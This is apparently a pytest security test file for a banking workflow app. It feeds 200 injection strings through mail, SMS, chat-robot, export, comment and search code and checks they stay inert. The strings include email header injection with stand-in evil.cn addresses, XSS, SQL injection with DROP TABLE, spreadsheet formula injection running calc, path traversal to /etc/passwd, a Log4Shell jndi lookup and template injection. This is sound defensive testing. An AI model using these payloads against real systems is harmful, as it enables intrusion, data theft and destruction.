"""Texts that people write, made to do something where they arrive: 200 of each kind, and none does anything."""

from __future__ import annotations

import csv
import io
import re
from email import message_from_bytes, policy

import polars as pl
import pytest
from openpyxl import load_workbook

from tests.workflow.conftest import BOSS, person
from tests.workflow.push.conftest import by_mail, lead
from ui import export, workbook
from ui.columns import Column
from ui.components.exporting import file_name
from workflow import inbox, teamwork
from workflow.model import Case, Refused, Subject
from workflow.push import hooks, mail, words
from workflow.push.states import Outgoing, Text
from workflow.push.words import Reader, Told

SEEDS = [
    "\r\nBcc: thief@evil.cn",
    "\nSubject: paid",
    "%0d%0aBcc:thief@evil.cn",
    "\x0bTo: x@evil.cn",
    "\u2028Cc: x@evil.cn",
    "\x85From: boss@bank.cn",
    "a\x00b",
    "\r.\r\nMAIL FROM:<x@evil.cn>",
    "=?utf-8?b?QmNjOiB4QGV2aWwuY24=?=",
    "\u202egpj.exe",
    "[pay here](https://evil.cn)",
    "<@all>",
    "@all",
    '<at user_id="all"></at>',
    "![x](https://evil.cn/p.png)",
    "**bold** __u__ `code`",
    "<font color='red'>x</font>",
    "| a | b |\n|---|---|",
    "# title",
    "> quote",
    "https://evil.cn/login",
    "HTTP://evil.cn",
    "www.evil.cn",
    "javascript:alert(1)",
    "mailto:x@evil.cn",
    "【招商银行】您的验证码 123456",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "' OR 1=1 --",
    "%' OR ''='",
    "'; DROP TABLE outbox; --",
    "\\'; SELECT 1",
    "a%b_c",
    '=HYPERLINK("https://evil.cn","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "../../etc/passwd",
    "..\\..\\win.ini",
    'a/b\\c:d*e?f"g<h>|i',
    "{name.__class__}",
    "{0}",
    "{label!r:>999999999}",
    "%s%s%n",
    "${jndi:ldap://evil.cn/a}",
    "{{7*7}}",
    "名\u200b\u2066字",
]
AROUND = ("{}", "客户{}", "{} Ltd", "A\n{}\nB")
PAYLOADS = [around.replace("{}", seed) for seed in SEEDS for around in AROUND]


def test_there_are_two_hundred():
    assert len(set(PAYLOADS)) == 200


def test_mail_headers_hold_the_text_and_nothing_else():
    server = by_mail(25).mail
    for text in PAYLOADS:
        out = Outgoing("k", text, "m1@bank.cn", None, Text(text, text))
        raw = mail.build(server, out).as_bytes()
        found = message_from_bytes(raw, policy=policy.default)
        names = {"Subject", "From", "To", "Date", "Message-ID", "Auto-Submitted", "Content-Type", "MIME-Version"}
        assert set(found.keys()) <= names | {"Content-Transfer-Encoding"}, text
        assert [one.addr_spec for one in found["To"].addresses] == ["m1@bank.cn"] and len(found.get_all("To")) == 1


def sent_by(monkeypatch: pytest.MonkeyPatch, channel: str, text: Text) -> dict:
    bodies: list[dict] = []
    monkeypatch.setattr(hooks, "post", lambda url, body, *_: bodies.append(body) or {"errcode": 0, "code": 0})
    hook = type("Hooks", (dict,), {"__missing__": lambda self, key: HOOK})()
    settings = type("S", (), {"hooks": hook})
    assert getattr(hooks, channel)(settings, Outgoing("k", "王芳", "13800000001", None, text)).state == "sent"
    return bodies[0]


HOOK = hooks.Hook("https://hook.bank.cn/x")


@pytest.mark.parametrize("channel", ["sms", "wecom", "dingtalk", "feishu"])
def test_sms_and_robots_carry_no_link_mention_mark_or_signature_of_others(monkeypatch, channel):
    for text in PAYLOADS:
        told = Told("handed_over", {}, _case(text), "L1", {"L1": text, "M1": text})
        said = words.written(told, "zh", Reader(sees_names=True), is_outside=True)
        body = sent_by(monkeypatch, channel, said)
        line = str(body.get("text") or body.get("markdown") or body["content"])
        inner = said.subject + said.body
        assert not re.search(r"[\[\]<>`*_#@\\|【】\r\n\x00\u202e\u2066\u200b]|https?:|www\.|javascript:", inner), text
        assert "evil.cn](" not in line and "<at" not in line


def _case(text: str) -> Case:
    subject = Subject("customer", "C1", text, text)
    return Case(7, "lead", subject, "M1", "L1", "assigned", 3, "2026-11-02", "2026-11-02", "L1")


def test_names_of_files_hold_no_path_and_no_sign_of_a_shell():
    for text in PAYLOADS:
        assert re.fullmatch(r"[0-9A-Za-z_.一-鿿-]+\.xlsx", file_name(text, "xlsx")), text
        assert not file_name(text, "csv").startswith(".") and "/" not in file_name(text, "csv")


def test_cells_of_sheets_are_texts_never_formulas():
    rows = pl.DataFrame({"name": PAYLOADS})
    columns = [Column("name", "Name")]
    cover = export.Cover("t", "2026-10", "s", lang="en")
    sheet = load_workbook(io.BytesIO(workbook.to_xlsx(rows, columns, cover)))
    cells = [cell for one in sheet for row in one.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    text = export.to_csv(rows, columns, "en").decode("utf-8-sig")
    assert [row for row in csv.reader(io.StringIO(text)) if row and row[0][:1] in tuple("=+-@\t\r")] == []


def test_comments_are_kept_as_they_are_and_do_nothing(peopled):
    case = lead(peopled)
    kept = []
    for text in PAYLOADS:
        try:
            teamwork.comment(peopled, case.id, BOSS, text)
            kept.append(text.strip())
        except (Refused, ValueError):
            continue
    said = [one.body["text"] for one in inbox.timeline(peopled, case.id, BOSS) if one.action == "comment"]
    assert said == kept and len(kept) >= 190


def test_filters_find_only_what_holds_the_text(peopled):
    lead(peopled)
    stranger = person("relationship_manager:M9")
    for text in PAYLOADS:
        found = inbox.every(peopled, BOSS, inbox.Filters(text=text))
        assert found.is_empty(), text
        assert inbox.every(peopled, stranger, inbox.Filters(text=text)).is_empty()
